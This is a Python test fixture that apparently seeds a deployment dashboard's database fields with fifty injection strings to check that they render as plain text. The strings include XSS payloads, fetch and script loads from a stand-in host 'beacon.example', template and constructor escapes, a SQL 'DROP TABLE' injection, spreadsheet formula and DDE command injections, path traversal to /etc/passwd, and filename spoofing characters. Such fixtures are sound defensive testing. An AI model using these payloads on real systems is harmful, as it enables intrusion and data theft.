"""Fifty strings that have an effect if a page does not treat them as plain text."""

from __future__ import annotations

from typing import Any

BEACON = "beacon.example"
TAGS = ["img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "details open ontoggle"]
RUNS = "window.pwned=1"
STRINGS: list[str] = [
    *[f"<{tag}={RUNS}>" for tag in TAGS],
    *[f"<{tag}='fetch(`http://{BEACON}/{number}`)'>" for number, tag in enumerate(TAGS)],
    f"<script>{RUNS}</script>", f"<script src=http://{BEACON}/a.js></script>", f"</script><script>{RUNS}//",
    f"<iframe src=http://{BEACON}/i></iframe>", f"<img src=http://{BEACON}/i.png>", f"<a href=javascript:{RUNS}>x</a>",
    f"<link rel=stylesheet href=http://{BEACON}/a.css>", f"<style>@import 'http://{BEACON}/b.css';</style>",
    f"<video src=http://{BEACON}/v></video>", f"<object data=http://{BEACON}/o></object>",
    f"<meta http-equiv=refresh content='0;url=http://{BEACON}/m'>", f"<base href=http://{BEACON}/>",
    f"<form action=http://{BEACON}/f><button>x</button></form>", f"<math><mtext><img src=x onerror={RUNS}>",
    f"![x](http://{BEACON}/m.png)", f"[x](javascript:{RUNS})", f"![x](//{BEACON}/m.png \"t\")", f"<http://{BEACON}/auto>",
    f"[![x](http://{BEACON}/n.png)](http://{BEACON})", f"[r]: http://{BEACON}/r\n![r]", "**bold** _it_ `code` # head",
    ":material/delete: :red[red] :streamlit:", ":material/nosuchicon:", "$\\href{javascript:alert(1)}{x}$",
    f"$\\includegraphics{{http://{BEACON}/l.png}}$", "\\", "`" * 3, "| a | b |\n|---|---|\n| c | d |",
    "{{constructor.constructor('alert(1)')()}}", "${7*7}", "datum.constructor.constructor('alert(1)')()",
    "'; DROP TABLE deployments; --", "=HYPERLINK(\"http://beacon.example\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202egnp.exe", "%s%n{0}", "\u0000\u0007\u001b[31m", "e\u0301" * 40, "💥\ud7ff", "x" * 3000,
    "javascript:window.pwned=1", "data:text/html,<script>1</script>", "../../../etc/passwd",
    "\"><img src=x onerror=window.pwned=1>",
]  # fmt: skip
TEXT: dict[str, tuple[str, ...]] = {
    "application": ("owner",),
    "execution": ("pipeline", "triggered_by", "branch", "reason", "url", "trigger"),
    "rollout": ("account", "location", "cluster", "version", "reason", "strategy"),
    "commit": ("author", "subject"),
    "change": ("change_request", "branch"),
    "approval": ("prompt", "answer", "decided_by", "unauthorized_user", "roles", "decision"),
    "canary": ("reason", "analysis", "config"),
    "canary_metric": ("metric", "groups", "provider", "reason"),
    "incident": ("severity", "title", "url"),
}


class Words:
    """Replaces the texts of rows by the strings, one after another."""

    def __init__(self) -> None:
        self.number = 0

    def replace_texts(self, table: str, fields: dict[str, Any]) -> dict[str, Any]:
        """Return the fields of a row with its texts replaced by the next strings."""
        return fields | {name: self.next_text() for name in TEXT.get(table, ())}

    def next_text(self) -> str:
        """Return the next string, without null characters, which a database cannot store."""
        self.number += 1
        return STRINGS[self.number % len(STRINGS)].replace("\x00", "")
